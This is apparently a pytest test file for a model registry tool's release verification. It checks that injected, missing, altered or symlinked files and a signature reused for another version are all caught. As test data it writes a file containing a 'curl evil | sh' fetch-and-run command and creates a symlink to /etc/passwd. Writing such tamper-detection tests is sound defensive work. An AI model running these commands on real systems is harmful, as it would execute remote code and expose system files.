"""Exact releases: a verified folder holds exactly the signed files, `get` writes a fresh folder,
`tether.models.load` rebuilds its own, and the `signed` gate counts only a signature over this
version's files."""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.conftest import Tether, git
from tests.registry.conftest import People
from tests.registry.test_hostile_versions import register_forged
from tether import models
from tether.api import Project
from tether.registry import store


@pytest.fixture
def signed(trained: str, people: People, tether: Tether, tmp_path: Path) -> Path:
    """model@v1 registered, signed by bob and written to a fresh folder; that folder."""
    tether("model", "register", "model", "--run", trained, "--path", "model.pkl")
    people.use("bob")
    tether("model", "sign", "model", "1")
    out = tmp_path / "serving"
    tether("model", "get", "model@v1", "-o", str(out))
    return out


def verify_dir(tether: Tether, folder: Path, expect: int = 0) -> str:
    return tether("model", "verify", "model", "1", "--dir", str(folder), expect=expect).output


def test_a_folder_with_an_injected_file_fails_and_names_it(signed: Path, tether: Tether) -> None:
    assert "1 file(s) match" in verify_dir(tether, signed)
    (signed / "modeling_evil.py").write_text("import os; os.system('curl evil | sh')\n")
    out = verify_dir(tether, signed, expect=1)
    assert "modeling_evil.py is not one of the signed files" in out
    assert "match" not in out.replace("PROBLEM", "")


def test_a_missing_file_is_named_not_a_traceback(signed: Path, tether: Tether) -> None:
    (signed / "model.pkl").unlink()
    assert "model.pkl is missing" in verify_dir(tether, signed, expect=1)


def test_every_problem_is_named_at_once(signed: Path, tether: Tether) -> None:
    with (signed / "model.pkl").open("r+b") as f:
        f.write(b"W")
    (signed / "sub").mkdir()
    (signed / "sub" / "extra.bin").write_bytes(b"x")
    (signed / "link").symlink_to("/etc/passwd")
    out = verify_dir(tether, signed, expect=1)
    assert "sub/extra.bin is not one of the signed files" in out
    assert "link (a symlink) is not one of the signed files" in out
    assert "model.pkl differs from what was signed" in out


def test_get_refuses_a_folder_that_holds_anything_and_leaves_it_alone(
    signed: Path, tether: Tether, tmp_path: Path
) -> None:
    stray = tmp_path / "old"
    stray.mkdir()
    (stray / "keep.txt").write_text("mine")
    out = tether("model", "get", "model@v1", "-o", str(stray), expect=4).output
    assert "is not empty" in out and "fresh folder" in out
    assert sorted(p.name for p in stray.iterdir()) == ["keep.txt"]
    empty = tmp_path / "empty"
    empty.mkdir()
    tether("model", "get", "model@v1", "-o", str(empty))
    assert sorted(p.name for p in empty.iterdir()) == ["model.pkl"]
    assert not [p for p in tmp_path.iterdir() if p.name.endswith(".part")]  # nothing left over


def test_models_load_rebuilds_its_folder_so_a_dropped_file_is_gone(
    signed: Path, repo: Path
) -> None:
    path, _ = models.load("model", "v1", path=repo)
    (path.parent / "modeling_evil.py").write_text("evil")
    path, provenance = models.load("model", "v1", path=repo)
    assert sorted(p.name for p in path.parent.iterdir()) == ["model.pkl"]
    assert provenance["signed_by"] is None or "bob" in provenance["signed_by"]
    with pytest.raises(Exception, match="not empty"):
        models.load("model", "v1", path=repo, out=signed)  # a folder the caller names: fresh


def test_a_signature_over_other_files_does_not_pass_the_signed_gate(
    trained: str, people: People, tether: Tether, project: Project, repo: Path
) -> None:
    text = (
        (repo / "tether.toml")
        .read_text()
        .replace('require = ["clean_tree", "metric:accuracy>=0.8"]', 'require = ["signed"]')
    )
    (repo / "tether.toml").write_text(text)
    git(repo, "add", "tether.toml")
    git(repo, "commit", "-qm", "chore: policy")
    tether("model", "policy", "apply")
    tether("model", "register", "model", "--run", trained, "--path", "model.pkl")
    people.use("bob")
    tether("model", "sign", "model", "1")
    register_forged(project, trained, [("other.bin", b"o" * 64)])  # churn@v1, other files
    v1 = Project.open(repo).models.state().resolve("model@v1")
    body = {"name": "churn", "version": 1, "envelope": v1.signature, "keyid": "x"}
    with store.writing(project.ws):  # model@v1's signature, claimed for churn@v1
        store.append(project.ws, "model.sign", body, sign=False)
    people.use("alice")
    out = tether("model", "request", "churn@v1", "--to", "production", expect=4).output
    assert "signed: the version has no signature" in out
    tether("model", "request", "model@v1", "--to", "production")  # its own signature: passes
